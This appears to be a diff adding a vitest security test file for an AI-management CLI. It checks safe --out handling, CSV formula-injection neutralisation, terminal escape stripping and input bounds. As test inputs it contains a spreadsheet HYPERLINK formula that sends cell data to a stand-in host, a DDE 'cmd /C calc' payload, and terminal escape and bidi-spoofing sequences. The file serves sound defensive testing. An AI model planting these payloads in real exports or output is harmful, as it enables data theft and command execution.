@@ -1,0 +1,271 @@
+// Outputs a careful user and an attacker both lean on: --out never damages the register, CSV
+// opens as text in a spreadsheet, terminals never receive escape sequences from data, a closed
+// pipe ends the command quietly, and record files are bounded.
+import { spawn } from 'node:child_process';
+import { cpSync, existsSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { csvField, toCsv } from '../../../shared/render/csv';
+import { terminalSafe } from '../../../scripts/cli/format/terminal';
+import { renderTable } from '../../../scripts/cli/format/table';
+import { runCli } from '../../support/cli';
+
+const REPO = join(dirname(fileURLToPath(import.meta.url)), '../../..');
+const FIELD_CASE = join(REPO, 'test/fixtures/field-cases/12-soa-csv-formula-injection/soa-entry.yaml');
+const base = mkdtempSync(join(tmpdir(), 'aims-safe-output-'));
+let demo: string;
+
+beforeAll(async () => {
+  demo = join(base, 'demo');
+  expect((await runCli(['demo', '--workspace', demo, '--today', '2026-11-29'])).code).toBe(0);
+}, 60_000);
+
+let n = 0;
+function copy(): string {
+  const ws = join(base, `ws-${++n}`);
+  cpSync(demo, ws, { recursive: true });
+  return ws;
+}
+
+/** RFC 4180 reader for the test: quoted fields, doubled quotes, CRLF records. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      row.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
+    } else field += c;
+  }
+  return rows;
+}
+
+describe('--out never overwrites the register', () => {
+  it.each([
+    ['calendar', 'events.jsonl'],
+    ['soa', 'aims-workspace.json'],
+    ['soa', 'records/soa-entry/x.csv'],
+    ['calendar', 'checkpoints.jsonl'],
+  ])(
+    'aims %s --out <workspace>/%s is refused, even with --force, and the file is unchanged',
+    async (command, file) => {
+      const ws = copy();
+      const target = join(ws, file);
+      const before = existsSync(target) ? readFileSync(target, 'utf8') : undefined;
+      const format = command === 'soa' ? ['--format', 'csv'] : [];
+      const run = await runCli([command, '--workspace', ws, '--out', target, '--force', ...format]);
+      expect(run.code).toBe(2);
+      expect(run.err).toMatch(/--out .*: (is a file of|is inside the records of) the workspace/);
+      expect(existsSync(target) ? readFileSync(target, 'utf8') : undefined).toBe(before);
+      expect((await runCli(['verify', '--workspace', ws])).code).toBe(0);
+    },
+  );
+
+  it('a link that points at the event log is refused too', async () => {
+    const ws = copy();
+    const link = join(base, `link-${n}.ics`);
+    symlinkSync(join(ws, 'events.jsonl'), link);
+    const run = await runCli(['calendar', '--workspace', ws, '--out', link, '--force']);
+    expect(run.code).toBe(2);
+    expect(run.err).toContain('is a file of the workspace');
+  });
+
+  it('an existing file needs --force; a new file is written', async () => {
+    const ws = copy();
+    const out = join(base, `soa-${n}.csv`);
+    expect((await runCli(['soa', '--workspace', ws, '--out', out])).code).toBe(0);
+    writeFileSync(out, 'keep me');
+    const refused = await runCli(['soa', '--workspace', ws, '--out', out]);
+    expect(refused.code).toBe(2);
+    expect(refused.err).toContain('already exists; pass --force to overwrite it');
+    expect(readFileSync(out, 'utf8')).toBe('keep me');
+    const forced = await runCli(['soa', '--workspace', ws, '--out', out, '--force']);
+    expect(forced.code).toBe(0);
+    expect(readFileSync(out, 'utf8')).toContain('A.6.2.4');
+  });
+
+  it('aims pack refuses a folder inside the workspace records or the workspace itself', async () => {
+    const ws = copy();
+    for (const out of [join(ws, 'records/pack'), ws]) {
+      const run = await runCli(['pack', '--workspace', ws, '--out', out]);
+      expect(run.code).toBe(2);
+      expect(run.err).toMatch(/--out .*: (is inside the records of the workspace|is an AIMS workspace)/);
+    }
+    expect(existsSync(join(ws, 'records/pack'))).toBe(false);
+    expect((await runCli(['verify', '--workspace', ws])).code).toBe(0);
+  });
+});
+
+describe('CSV injection (field case 12, CWE-1236)', () => {
+  it('the SoA CSV neutralises a formula justification and a command owner; the text is kept', async () => {
+    const ws = copy();
+    const recorded = await runCli([
+      'record',
+      'soa-entry',
+      FIELD_CASE,
+      '--workspace',
+      ws,
+      '--today',
+      '2026-11-29',
+    ]);
+    expect(recorded.err).toBe('');
+    const run = await runCli(['soa', '--workspace', ws, '--format', 'csv']);
+    expect(run.code).toBe(0);
+    const rows = parseCsv(run.out + '\r\n');
+    const header = rows[0]!;
+    const row = rows.find((r) => r[0] === 'A.6.2.4')!;
+    const cell = (name: string) => row[header.indexOf(name)];
+    expect(cell('Justification')).toBe(
+      `'=HYPERLINK("http://evidence.example/collect?d="&A1,"Open evidence")`,
+    );
+    expect(cell('Owner')).toBe(`'+cmd|' /C calc'!A0`);
+    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-2', "'-2"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tlead', "'\tlead"],
+    ['\r=1', `"'\r=1"`],
+    ['a=b', 'a=b'],
+    ['plain, with comma', '"plain, with comma"'],
+    ['say "hi"', '"say ""hi"""'],
+    ['=cmd,"x"', `"'=cmd,""x"""`],
+    ['', ''],
+  ])('csvField(%j) is %j', (input, expected) => {
+    expect(csvField(input)).toBe(expected);
+  });
+
+  it('rows end in CRLF', () => {
+    expect(toCsv(['a', 'b'], [['-1', 'x']])).toBe("a,b\r\n'-1,x\r\n");
+  });
+});
+
+describe('terminal output', () => {
+  it.each([
+    ['clear screen', 'bot\u001b[2J\u001b[H', 'bot'],
+    ['title (OSC, BEL)', '\u001b]0;pwned\u0007name', 'name'],
+    ['title (OSC, ST)', '\u001b]2;pwned\u001b\\name', 'name'],
+    ['colour', '\u001b[31mred\u001b[0m', 'red'],
+    ['8-bit CSI', 'a\u009b2Jb', 'ab'],
+    ['carriage return overwrite', 'safe\rEVIL', 'safeEVIL'],
+    ['backspace', 'ok\b\b', 'ok'],
+    ['bidi override', 'admin\u202Etxt.exe', 'admintxt.exe'],
+    ['NUL and DEL', 'a\u0000b\u007f', 'ab'],
+  ])('strips %s', (_label, input, expected) => {
+    expect(terminalSafe(input)).toBe(expected);
+  });
+
+  it('keeps tabs, line ends, CRLF and non-ASCII text', () => {
+    expect(terminalSafe('a\tb\r\nç 日本 — ✓\n')).toBe('a\tb\r\nç 日本 — ✓\n');
+  });
+
+  it('tables measure widths after stripping', () => {
+    const lines = renderTable(['Name', 'X'], [['\u001b[31mbot\u001b[0m', '1']]);
+    expect(lines[2]).toBe('bot   1');
+  });
+
+  it('a file named with escape sequences reaches the terminal as plain text (real process)', async () => {
+    const ws = copy();
+    const file = join(base, `trg-\u001b[2J\u001b]0;owned\u0007cleared-${n}.yaml`);
+    writeFileSync(
+      file,
+      [
+        'kind: trigger',
+        'id: trg-escape',
+        'systemId: sys-unknown',
+        'type: calendar',
+        'detail: planted',
+        'raisedOn: 2026-11-29',
+        '',
+      ].join('\n'),
+    );
+    const run = await spawnCli(['record', 'trigger', file, '--workspace', ws, '--today', '2026-11-29']);
+    // The error line names the file: its name reaches the terminal without the sequences.
+    expect(run.code).toBe(2);
+    expect(run.err.includes('\u001b') || run.err.includes('\u0007')).toBe(false);
+    expect(run.err).toContain(`trg-cleared-${n}.yaml: field 'systemId'`);
+  }, 30_000);
+
+  it('aims readiness into a closed pipe exits quietly', async () => {
+    const run = await spawnCli(['readiness', '--workspace', demo, '--today', '2026-11-29'], {
+      closeStdout: true,
+    });
+    expect(run.err).toBe('');
+    expect(run.code).toBe(0);
+  }, 30_000);
+});
+
+describe('bad input bounded', () => {
+  it('a record file over 5 MB is refused with one line, by aims record and on load', async () => {
+    const ws = copy();
+    const big = join(base, 'big.json');
+    writeFileSync(
+      big,
+      JSON.stringify({ kind: 'trigger', id: 'trg-big', detail: 'x'.repeat(5 * 1024 * 1024) }),
+    );
+    const run = await runCli(['record', 'trigger', big, '--workspace', ws]);
+    expect(run.code).toBe(2);
+    expect(run.err).toBe('aims record: ' + big + ': 5.0 MB is over the 5 MB limit for a record file');
+    cpSync(big, join(ws, 'records/trigger/trg-big.json'));
+    const load = await runCli(['verify', '--workspace', ws]);
+    expect(load.code).toBe(2);
+    expect(load.err).toBe(
+      'aims verify: records/trigger/trg-big.json: 5.0 MB is over the 5 MB limit for a record file',
+    );
+  });
+
+  it('duplicate JSON keys are refused by aims record and in workspace files', async () => {
+    const ws = copy();
+    const dup = join(base, 'dup.json');
+    writeFileSync(dup, '{"kind":"trigger","id":"trg-dup","status":"open","status":"resolved"}');
+    const run = await runCli(['record', 'trigger', dup, '--workspace', ws]);
+    expect(run.code).toBe(2);
+    expect(run.err).toContain("not valid JSON (duplicate key 'status' at line 1)");
+    const file = join(ws, 'records/ai-system/sys-claims-triage.json');
+    writeFileSync(file, readFileSync(file, 'utf8').replace('{', '{\n  "inScope": false,'));
+    const load = await runCli(['verify', '--workspace', ws]);
+    expect(load.code).toBe(2);
+    expect(load.err).toContain(
+      "records/ai-system/sys-claims-triage.json: not valid JSON (duplicate key 'inScope'",
+    );
+  });
+});
+
+/** The real bin, for what only a real process shows: terminal bytes and pipes. */
+function spawnCli(
+  args: string[],
+  options: { closeStdout?: boolean } = {},
+): Promise<{ code: number | null; out: string; err: string }> {
+  return new Promise((resolve) => {
+    const child = spawn(process.execPath, [join(REPO, 'bin/aims.mjs'), ...args], {
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    let out = '';
+    let err = '';
+    if (options.closeStdout) child.stdout.destroy();
+    else child.stdout.on('data', (c: Buffer) => (out += c.toString()));
+    child.stderr.on('data', (c: Buffer) => (err += c.toString()));
+    child.on('close', (code) => resolve({ code, out, err }));
+  });
+}
